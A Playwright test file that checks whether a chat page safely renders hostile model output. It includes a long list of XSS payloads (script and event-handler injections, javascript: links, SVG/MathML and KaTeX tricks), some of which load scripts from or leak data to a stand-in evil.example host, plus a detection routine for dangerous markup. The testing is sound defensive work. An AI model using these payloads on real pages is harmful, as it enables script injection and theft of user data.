using System.Text.RegularExpressions;
using NUnit.Framework;
using static Microsoft.Playwright.Assertions;

namespace DeepSeekEngine.ChatPage.Tests;

/// <summary>
/// Whatever a model says is text. PageTest fails a test in which anything was executed, fetched or refused by the policy: the policy is the
/// second line of defence, and what reaches it has passed the first.
/// </summary>
internal sealed class HostileOutputTests : PageTest
{
    private static readonly string[] Payloads =
    [
        "<script>hacked = 1</script>",
        "<script src=\"https://evil.example/x.js\"></script>",
        "<img src=x onerror=\"hacked = 1\">",
        "text <img src=\"https://evil.example/pixel.png\"> text",
        "![pixel](https://evil.example/pixel.png?q=secret)",
        "![pixel](javascript:hacked=1)",
        "![pixel](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImhhY2tlZD0xIi8+)",
        "[click](javascript:hacked=1)",
        "[click](JaVaScRiPt:hacked=1)",
        "[click](&#106;avascript:hacked=1)",
        "[click](java\tscript:hacked=1)",
        "[click](data:text/html,<script>hacked=1</script>)",
        "[click](vbscript:hacked=1)",
        "[click](blob:https://evil.example/1)",
        "[click](/v1/models)",
        "[click](//evil.example/ \"x\" onmouseover=\"hacked=1)",
        "<javascript:hacked=1>",
        "[ref]\n\n[ref]: javascript:hacked=1",
        "<a href=\"javascript:hacked=1\">click</a>",
        "<svg onload=\"hacked=1\"><script>hacked=1</script><use href=\"data:image/svg+xml,x#x\"/></svg>",
        "<svg><animate onbegin=\"hacked=1\" attributeName=x dur=1s></svg>",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=hacked=1&gt;\">",
        "<math href=\"javascript:hacked=1\"><maction actiontype=\"statusline#https://evil.example\" xlink:href=\"javascript:hacked=1\">x</maction></math>",
        "<style>body { display: none; background: url(https://evil.example/x) }</style>",
        "<p style=\"position:fixed;inset:0;background:url(https://evil.example/x)\">cover</p>",
        "<iframe src=\"javascript:hacked=1\"></iframe><iframe srcdoc=\"<script>parent.hacked=1</script>\"></iframe>",
        "<object data=\"javascript:hacked=1\"></object><embed src=\"javascript:hacked=1\">",
        "<form action=\"https://evil.example\"><input name=key autofocus onfocus=\"hacked=1\"><button formaction=\"javascript:hacked=1\">x</button></form>",
        "<base href=\"https://evil.example/\"><meta http-equiv=refresh content=\"0;url=https://evil.example\"><link rel=stylesheet href=\"https://evil.example/x.css\">",
        "<details open ontoggle=\"hacked=1\"><summary>x</summary></details>",
        "<video><source onerror=\"hacked=1\"></video><audio src=x onerror=\"hacked=1\">",
        "<noscript><p title=\"</noscript><img src=x onerror=hacked=1>\">",
        "<template><img src=x onerror=hacked=1></template><dialog open>x</dialog>",
        "<!--<img src=x onerror=hacked=1>-->\n\n<?php hacked ?>\n\n<![CDATA[<img src=x onerror=hacked=1>]]>",
        "<br onclick=\"hacked=1\"><sub onmouseover=\"hacked=1\">x</sub>",
        "<a id=\"__proto__\" name=\"hacked\">x</a><img name=\"body\"><form id=\"composer\"></form><p id=\"question\">x</p>",
        "# heading {#hacked}\n\n```__proto__\nx\n```\n\n```constructor\nx\n```\n\n```\"><img/src=x/onerror=hacked=1>\nx\n```",
        "```html\n<script>hacked = 1</script><img src=x onerror=hacked=1>\n```",
        "`<img src=x onerror=hacked=1>`",
        "| <img src=x onerror=hacked=1> | b |\n|---|---|\n| <script>hacked=1</script> | [x](javascript:hacked=1) |",
        "\\(\\href{javascript:hacked=1}{x}\\) \\(\\url{javascript:hacked=1}\\)",
        "$$\\includegraphics[height=1em]{https://evil.example/x.png}$$",
        "\\[\\htmlData{x=\"onclick=hacked=1\"}{x} \\]",
        "\\(\\htmlStyle{position:fixed;inset:0}{x}\\) \\(\\htmlClass{edit}{x}\\) \\(\\htmlId{question}{x}\\)",
        "\\(\\text{<img src=x onerror=hacked=1>}\\) \\(\\unicode{x}\\) \\(<img src=x onerror=hacked=1>\\)",
        "$$\\def\\a{\\a\\a}\\a$$",
        "$$\\gdef\\frac#1#2{\\text{hacked}}x$$ \\(\\frac12\\)",
        "\\(\\rule{10000em}{10000em}\\) \\(\\kern-1000em x\\) \\(\\raisebox{400em}{x}\\)",
        "\\(\\fcolorbox{red}{blue}{x} \\pmb{x} \\color{#f00;background:url(https://evil.example)}x\\)",
        "\u202e\u2066reversed\u0000\ufeff\ud800 lone",
    ];

    [Test]
    public async Task Nothing_a_model_says_is_executed_fetched_or_followed()
    {
        var text = string.Join("\n\n", Payloads);
        Answers(text, reasoning: text);
        // As the only block, as the one that still grows, and amid others: each is drawn by another way.
        Answers(async reply =>
        {
            foreach (var payload in Payloads)
            {
                await reply.SayAsync(payload[..(payload.Length / 2)]);
                await reply.SayAsync(payload[(payload.Length / 2)..]);
                await reply.SayAsync("\n\n");
                await Task.Delay(5, reply.Gone);
            }

            await reply.FinishAsync();
        });
        await AskAndWaitAsync("<img src=x onerror=hacked=1>");
        await Thinking.Locator("summary").ClickAsync();
        await Expect(Page.Locator(".reasoning > *").First).ToBeVisibleAsync();
        await Expect(Page.Locator("[aria-busy=true]:visible")).ToHaveCountAsync(0);
        await AskAndWaitAsync("And in pieces");
        await CheckAsync();
        await Page.ReloadAsync();
        await Expect(Answer).ToBeVisibleAsync();
        await Expect(Page.Locator("[aria-busy=true]:visible")).ToHaveCountAsync(0);
        await CheckAsync();
    }

    [Test]
    public async Task Nor_is_any_of_it_alone()
    {
        foreach (var payload in Payloads)
        {
            Server.Script.Clear();
            Answers(payload);
            await Button("New chat").ClickAsync();
            await AskAndWaitAsync("Go on");
            await CheckAsync();
            await Expect(Question).ToBeInViewportAsync();
            await Expect(Question).ToBeEditableAsync();
        }
    }

    [Test]
    public async Task Markup_is_shown_as_the_text_it_is()
    {
        Answers("A <b onclick=\"x\">bold</b> word.<br>Next\n\n<div>\nblock\n</div>");
        await AskAndWaitAsync("Go on");
        await Expect(Answer).ToContainTextAsync("A <b onclick=\"x\">bold</b> word.");
        await Expect(Answer).ToContainTextAsync("<div>\nblock\n</div>");
        await Expect(Answer.Locator("br")).ToHaveCountAsync(1);
    }

    [Test]
    public async Task Pictures_are_links_and_links_leave_nothing_behind()
    {
        Answers("![chart](https://example.org/chart.png) [mail](mailto:a@example.org) [bad](javascript:x) https://example.org/auto");
        await AskAndWaitAsync("Go on");
        var links = Answer.Locator("a");
        await Expect(links).ToHaveTextAsync(["chart", "mail", "https://example.org/auto"]);
        for (var index = 0; index < 3; index++)
        {
            await Expect(links.Nth(index)).ToHaveAttributeAsync("target", "_blank");
            await Expect(links.Nth(index)).ToHaveAttributeAsync("rel", new Regex("noopener"));
        }
    }

    [Test]
    public async Task Text_that_is_nested_without_end_is_shown_plainly()
    {
        string[] pieces = [">", "> ", "- ", "  - a\n", "[", "**a ", "_a", "\\(", "$$", "\\({", "<a ", "![", "`a``b", "|a", "1. ", "\\[\n"];
        foreach (var piece in pieces)
        {
            var text = string.Concat(Enumerable.Repeat(piece, 12_000 / piece.Length));
            Server.Script.Clear();
            Answers(async reply =>
            {
                await reply.SayAsync(text[..6_000]);
                await reply.SayAsync(text[6_000..]);
                await reply.SayAsync("\n\nThe end.");
                await reply.FinishAsync();
            });
            await Button("New chat").ClickAsync();
            await AskAndWaitAsync("Go on");
            await Expect(Answer).ToContainTextAsync("The end.");
            await CheckAsync();
        }
    }

    [Test]
    public async Task Formulas_are_typeset_and_readable()
    {
        Answers("Inline \\(a^2\\), shown:\n\\[\n\\frac{a}{b}\n\\]\n$$\\sqrt{x}$$ and broken \\(\\frac{\\) but $5 and $6 are money.");
        await AskAndWaitAsync("Go on");
        await Expect(Answer.Locator(".katex-html")).ToHaveCountAsync(3);
        await Expect(Answer.Locator("math")).ToHaveCountAsync(3);
        await Expect(Answer.Locator("math mfrac")).ToHaveCountAsync(1);
        await Expect(Answer.Locator(".katex-display")).ToHaveCountAsync(2);
        await Expect(Answer.Locator("code.formula")).ToHaveTextAsync("\\frac{");
        await Expect(Answer).ToContainTextAsync("but $5 and $6 are money.");
        Assert.That(await Answer.Locator(".katex-html .vlist span[style]").CountAsync(), Is.Positive, "styles set by script are kept");
    }

    // Everything within the messages is of the page's making: its elements, no handler, no identifier, no address but of a few kinds.
    private async Task CheckAsync()
    {
        var found = await Page.EvaluateAsync<string[]>("""
            () => {
              const found = [];
              for (const element of document.querySelectorAll('.prose, .prose *')) {
                if (/^(script|style|img|image|iframe|object|embed|form|input|base|meta|link|video|audio|source|template|dialog|details|noscript|animate|foreignobject|maction|mglyph)$/i.test(element.localName)) {
                  found.push(element.outerHTML);
                }
                for (const { name, value } of element.attributes) {
                  if (/^on|^id$|^name$|^src|action/i.test(name) || (/href/i.test(name) && !/^(https?:|mailto:|#icon-)/.test(value))
                    || (name === 'style' && /url|fixed/i.test(value))) {
                    found.push(`${name}=${value}`);
                  }
                }
              }
              return found;
            }
            """);
        Assert.That(found, Is.Empty);
        foreach (var link in await Page.Locator(".prose a").AllAsync())
        {
            await Expect(link).ToHaveAttributeAsync("rel", new Regex("noopener"));
        }
    }
}
